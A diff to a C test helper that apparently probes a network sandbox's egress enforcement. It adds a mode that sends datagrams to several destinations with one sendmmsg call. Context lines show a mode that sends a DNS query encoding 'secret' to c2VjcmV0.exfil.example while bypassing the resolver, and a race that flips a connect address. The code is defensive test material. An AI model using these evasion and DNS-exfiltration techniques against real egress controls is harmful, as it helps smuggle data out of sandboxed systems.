@@ -3,6 +3,7 @@
 // Without a network baseline each attack is CLEAN.
 //
 //   netconnect MODE DEST [FORBIDDEN]
+//   netconnect mmsg DEST...
 //
 // DEST is ADDR:PORT (IPv4) or unix:/path. Record a mode with the
 // destination the baseline allows; check it with another one.
@@ -12,6 +13,9 @@
 //   dns      sends a DNS query for c2VjcmV0.exfil.example ("secret" in
 //            base64) to DEST with sendto, ignoring /etc/resolv.conf, and
 //            waits for the answer
+//   mmsg     sends one sendmmsg with a datagram to each DEST (1 to 4 of
+//            them, IPv4) from one unconnected socket and waits for as many
+//            echoes
 //   flip     connects 2000 times through one sockaddr buffer while a second
 //            thread flips its address between DEST and FORBIDDEN (the same
 //            port: only the 4-byte address changes, with one store, so the
@@ -92,6 +96,36 @@ static void datagram(const char *dest, const void *msg, size_t n) {
 	close(fd);
 }
 
+// mmsg sends "hello" to each of dests with one sendmmsg and waits (at
+// most 10 s each) for as many datagrams back.
+static void mmsg(char **dests, int n) {
+	union dest d[4];
+	struct iovec iov = {.iov_base = "hello", .iov_len = 5};
+	struct mmsghdr msgs[4];
+	must(n >= 1 && n <= 4, "mmsg: 1 to 4 destinations");
+	memset(msgs, 0, sizeof msgs);
+	for (int i = 0; i < n; i++) {
+		msgs[i].msg_hdr.msg_name = &d[i];
+		msgs[i].msg_hdr.msg_namelen = parse(dests[i], &d[i]);
+		must(d[i].sa.sa_family == AF_INET, "mmsg: IPv4 destinations");
+		msgs[i].msg_hdr.msg_iov = &iov;
+		msgs[i].msg_hdr.msg_iovlen = 1;
+	}
+	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	must(fd >= 0, "socket");
+	struct timeval tv = {.tv_sec = 10};
+	must(setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv) == 0, "setsockopt");
+	int sent = sendmmsg(fd, msgs, n, 0);
+	if (sent < 0)
+		perror("sendmmsg");
+	printf("sent %d\n", sent);
+	char buf[512];
+	for (int i = 0; i < sent; i++)
+		if (recvfrom(fd, buf, sizeof buf, 0, NULL, NULL) < 0)
+			perror("recvfrom");
+	close(fd);
+}
+
 // dnsquery writes a query for name (type A, recursion desired) into buf.
 static size_t dnsquery(unsigned char *buf, const char *name) {
 	static const unsigned char header[12] = {0x51, 0x7e, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
@@ -160,6 +194,8 @@ int main(int argc, char **argv) {
 	} else if (!strcmp(mode, "dns")) {
 		unsigned char q[512];
 		datagram(dest, q, dnsquery(q, "c2VjcmV0.exfil.example"));
+	} else if (!strcmp(mode, "mmsg")) {
+		mmsg(argv + 2, argc - 2);
 	} else if (!strcmp(mode, "flip") && argc == 4) {
 		flip(dest, argv[3]);
 	} else {
